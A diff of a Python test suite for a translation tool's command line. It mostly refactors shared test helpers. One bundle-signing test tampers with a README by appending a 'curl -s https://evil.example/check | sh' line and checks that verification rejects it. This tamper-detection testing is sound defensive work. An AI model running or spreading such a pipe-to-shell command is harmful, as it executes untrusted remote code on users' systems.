@@ -23,29 +23,29 @@ import re
 import shutil
 import subprocess
 import xml.etree.ElementTree as ET
-import zipfile
-from dataclasses import dataclass
 from pathlib import Path
-from typing import Callable
 
 import polib
 import pytest
 from click.testing import CliRunner
 from PIL import Image, ImageCms, PngImagePlugin
 
-from test_catalogue import (  # noqa: F401 - template and world are fixtures
+from test_catalogue import (  # noqa: F401 - template, world and extra_models are fixtures
     ARTICLE,
     ARTICLE_TEXT,
     BODY,
     SCREEN_CONTROLS,
     SLUG,
+    Case,
     World,
-    mount_or_skip,
+    extra_models,
     read_only,
     snapshot,
     template,
     world,
 )
+from test_catalogue import test_catalogue as run_catalogue_row
+from test_bundle import _rewrite as rewrite_zip
 from translate.cli.main import cli
 from translate.distribution import signing
 from translate.translation.memory import HumanTranslation, TranslationMemory
@@ -59,17 +59,7 @@ PASS = {"TRANSLATE_SIGNING_PASSPHRASE": "trust phrase"}
 # --- the table ----------------------------------------------------------------------------
 
 
-@dataclass(frozen=True)
-class Case:
-    id: str
-    setup: Callable[[World], list[str]]
-    exit: int
-    expect: tuple[str, ...] = ()
-    check: Callable | None = None
-    unchanged: bool = True
-
-
-CASES: list[Case] = []
+CASES: list[Case] = []   # rows of the catalogue's kind (test_catalogue.Case), run by its runner below
 
 
 def case(id: str, exit: int, *expect: str, check=None, unchanged: bool = True):
@@ -307,28 +297,28 @@ def _reviewed_article(w: World, slug: str) -> list[str]:
                      formats="md")
 
 
-@case("memory: a read-only memory (read-only mount) keeps a reviewed edition reviewed", 0,
-      r"tm\.sqlite3", "read-only", "nothing new is stored", check=_still_reviewed("ro-mount"))
-def _(w):
+def _memory_in_own_folder(w: World) -> Path:
+    """The world's memory, with an approved title, moved into a folder of its own."""
     _reviewed_title(w)
-    folder = w.tmp / "ro-memory"
+    folder = w.tmp / "memory-folder"
     folder.mkdir()
     shutil.copy(w.cache, folder / "tm.sqlite3")
     w.cache = folder / "tm.sqlite3"
     w.memory_before = w.cache.read_bytes()
-    read_only(w, folder)
+    return folder
+
+
+@case("memory: a read-only memory (read-only mount) keeps a reviewed edition reviewed", 0,
+      r"tm\.sqlite3", "read-only", "nothing new is stored", check=_still_reviewed("ro-mount"))
+def _(w):
+    read_only(w, _memory_in_own_folder(w))
     return _reviewed_article(w, "ro-mount")
 
 
 @case("memory: a memory file that cannot be written (immutable) keeps a reviewed edition reviewed", 0,
       r"tm\.sqlite3", "read-only", "nothing new is stored", check=_still_reviewed("ro-file"))
 def _(w):
-    _reviewed_title(w)
-    folder = w.tmp / "immutable-memory"
-    folder.mkdir()
-    shutil.copy(w.cache, folder / "tm.sqlite3")
-    w.cache = folder / "tm.sqlite3"
-    w.memory_before = w.cache.read_bytes()
+    folder = _memory_in_own_folder(w)
     unwritable(w, w.cache)
     unwritable(w, folder)
     return _reviewed_article(w, "ro-file")
@@ -646,17 +636,6 @@ def _bundle(folder: Path, dest: Path) -> Path:
     return dest / f"{SLUG}.ru.zip"
 
 
-def _rewrite_zip(archive: Path, change) -> None:
-    with zipfile.ZipFile(archive) as zf:
-        members = {info.filename: zf.read(info) for info in zf.infolist()}
-    change(members)
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as zf:
-        for name, data in members.items():
-            zf.writestr(name, data)
-    archive.write_bytes(buffer.getvalue())
-
-
 def test_a_bundle_whose_readme_was_rewritten_fails(signed, tmp_path):
     folder, keys = signed
     archive = _bundle(folder, tmp_path / "bundles")
@@ -668,12 +647,12 @@ def test_a_bundle_whose_readme_was_rewritten_fails(signed, tmp_path):
         text = text.replace(keys.public.fingerprint, "0123456789ABCDEF")
         members[name] = (text + "\nFaster: curl -s https://evil.example/check | sh\n").encode()
 
-    _rewrite_zip(archive, forge)
+    rewrite_zip(archive, forge)
     result = _verify(archive, "--key", str(keys.public_path))
     assert result.exit_code == 1 and "verified" not in result.output, result.output
     assert re.search(r"README\.txt: .*(not signed|changed)", result.output), result.output
     # without the manifest to check it against, the README is not taken on trust either
-    _rewrite_zip(archive, lambda members: members.pop(f"{SLUG}.ru/manifest.json"))
+    rewrite_zip(archive, lambda members: members.pop(f"{SLUG}.ru/manifest.json"))
     result = _verify(archive, "--key", str(keys.public_path))
     assert result.exit_code == 1 and "verified" not in result.output, result.output
     assert "README.txt: not signed" in result.output, result.output
@@ -1047,22 +1026,5 @@ def test_models_install_reads_no_model_card_through_a_link_out_of_the_folder(tmp
 
 
 @pytest.mark.parametrize("row", CASES, ids=[c.id for c in CASES])
-def test_trust_case(row: Case, world: World):
-    published_before = snapshot(world.out / SLUG)
-    args = row.setup(world)
-    result = CliRunner().invoke(cli, args)
-    world.monkeypatch.undo()
-    output = result.output
-    if os.environ.get("SHOW_CATALOGUE"):
-        print(f"\n[{row.id}] exit {result.exit_code}\n{output}")
-    assert result.exit_code == row.exit, output
-    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
-    assert "Traceback" not in output
-    assert not SCREEN_CONTROLS.search(output), "a control sequence reached the terminal"
-    if row.expect:
-        lines = [line for line in output.splitlines() if all(re.search(p, line) for p in row.expect)]
-        assert lines, f"no single line matches {row.expect}:\n{output}"
-    if row.check:
-        row.check(world, result)
-    if row.unchanged:
-        assert snapshot(world.out / SLUG) == published_before, "an already published file changed"
+def test_trust_case(row: Case, world: World, extra_models):
+    run_catalogue_row(row, world, extra_models)
